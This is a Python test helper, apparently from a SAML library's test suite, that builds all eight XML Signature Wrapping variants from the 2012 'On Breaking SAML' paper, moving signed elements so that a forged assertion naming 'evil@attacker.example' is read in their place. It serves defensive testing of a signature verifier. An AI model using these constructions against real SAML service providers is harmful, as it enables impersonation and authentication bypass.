"""Signature wrapping: eight ways to keep a signed element somewhere and to put another where it is read.

Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), numbered as SAML Raider does.
"""

import copy

from lxml import etree
from tests.identity.saml.provider import one

from stockade.identity.saml.document import DSIG, NAMESPACES, SAMLP

EVIL = "evil@attacker.example"
VARIANTS = range(1, 9)
OF_RESPONSES = (1, 2)


def _without_signature(element: etree._Element) -> etree._Element:
    clean = copy.deepcopy(element)
    clean.remove(one(clean, "ds:Signature"))
    return clean


def _evil(element: etree._Element, *, same_id: bool) -> etree._Element:
    """A copy that names somebody else, without a signature."""
    made = _without_signature(element)
    one(made, ".//saml:NameID").text = EVIL
    if not same_id:
        for found in made.iter():
            if "ID" in found.attrib:
                found.set("ID", f"{found.get('ID')}-evil")
    return made


def wrapped(signed: etree._Element, variant: int, *, same_id: bool = False) -> etree._Element:
    """The attack's document; variants 1 and 2 want a signed response, the others a signed assertion."""
    if variant in OF_RESPONSES:
        signature = copy.deepcopy(one(signed, "ds:Signature"))
        root = _evil(signed, same_id=same_id)
        root.insert(1, signature)
        if variant == 1:
            signature.append(_without_signature(signed))
        else:
            root.insert(1, _without_signature(signed))
        return root
    root = copy.deepcopy(signed)
    original = one(root, "saml:Assertion")
    _WRAPS[variant](root, original, _evil(original, same_id=same_id))
    return root


def _before(root: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    original.addprevious(evil)


def _around(root: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    original.addprevious(evil)
    evil.append(original)


def _beside(root: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    original.addprevious(evil)
    evil.insert(1, one(original, "ds:Signature"))


def _inside_signature(root: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    original.addprevious(evil)
    signature = one(original, "ds:Signature")
    evil.insert(1, signature)
    signature.append(original)


def _in_extensions(root: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(evil)
    root.insert(1, extensions)


def _in_object(root: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    original.addprevious(evil)
    signature = one(original, "ds:Signature")
    evil.insert(1, signature)
    etree.SubElement(signature, f"{{{DSIG}}}Object").append(original)


_WRAPS = {
    3: _before, 4: _around, 5: _beside, 6: _inside_signature, 7: _in_extensions, 8: _in_object,
}  # fmt: skip


def names_read_naively(root: etree._Element) -> set[str | None]:
    """Whom those read who verify the signature somewhere, and then look for an assertion by its name."""
    paths = ("saml:Assertion/saml:Subject/saml:NameID", ".//saml:Assertion/saml:Subject/saml:NameID")
    return {root.find(path, NAMESPACES).text for path in paths}
